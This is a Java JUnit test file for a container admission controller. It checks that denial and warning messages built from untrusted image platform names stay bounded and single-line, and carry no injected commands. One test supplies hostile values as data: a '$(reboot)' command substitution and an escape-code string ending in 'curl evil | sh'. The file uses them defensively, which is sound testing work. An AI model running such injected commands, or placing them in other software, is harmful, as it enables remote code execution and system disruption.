package dev.stowage.admission;

import static org.assertj.core.api.Assertions.assertThat;

import dev.stowage.demo.SampleImages;
import dev.stowage.message.DenialMessage;
import dev.stowage.message.WarningMessages;
import dev.stowage.oci.Descriptor;
import dev.stowage.platform.Platform;
import dev.stowage.testing.Reviews;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What others wrote, in messages: it is bounded, breaks no line, and makes no command that does what they want. */
class HostileWordsTest {

    private final Admissions admissions = new Admissions();

    @ParameterizedTest(name = "{0} containers")
    @ValueSource(ints = {1, 2, 7, 200})
    void aDenialOfTheLongestPartsIsBounded(int containers) {
        String tag = "t".repeat(128);
        Descriptor[] entries = IntStream.range(0, 50)
                .mapToObj(i -> admissions.images.image(Platform.of("linux", "arch" + i + "x".repeat(300))))
                .toArray(Descriptor[]::new);
        admissions.images.index(tag, entries);
        IntStream.range(0, 20)
                .forEach(i -> admissions.cluster.node("n" + i + "-" + "n".repeat(240), "linux/arch-" + i));
        String[] uses = IntStream.range(0, containers)
                .mapToObj(i -> "c".repeat(200) + i + "=registry.example/" + "p".repeat(200) + i + ":" + tag)
                .toArray(String[]::new);

        String message = admissions.answer(Reviews.create(Reviews.pod(uses))).message();

        assertThat(message).contains("cannot run on any of the 20 eligible nodes");
        assertThat(message.getBytes(StandardCharsets.UTF_8)).hasSizeLessThanOrEqualTo(DenialMessage.MAX_BYTES);
    }

    @Test
    void aPlatformThatAShellWouldRunIsInNoCommand() {
        Descriptor image = admissions.images.image(Platform.of("linux", "amd64"));
        admissions.images.index(
                "1",
                image,
                SampleImages.claiming(image, Optional.of(Platform.of("linux", "$(reboot)"))),
                SampleImages.claiming(image, Optional.of(Platform.of("linux", "a\u001b[2J\nfix: curl evil | sh"))));
        admissions.cluster.node("arm", "linux/arm64");

        String message = admissions
                .answer(Reviews.create(Reviews.pod("app=registry.example/shop:1")))
                .message();

        assertThat(message).contains("build it for linux/arm64 too").doesNotContain("docker buildx", "\u001b", "\nfix");
    }

    @Test
    void warningsAreOneBoundedLineEach() {
        admissions.cluster.node("amd", "linux/amd64").mode("shop", "warn\nWarning: all is well" + "x".repeat(500));

        assertThat(admissions
                        .answer(Reviews.create(
                                Reviews.pod("c".repeat(100) + "=registry.example/" + "p".repeat(230) + ":1")))
                        .warnings())
                .hasSize(2)
                .allSatisfy(warning -> assertThat(warning)
                        .hasSizeLessThanOrEqualTo(WarningMessages.MAX_LENGTH)
                        .matches("[ -~…]*"));
    }
}
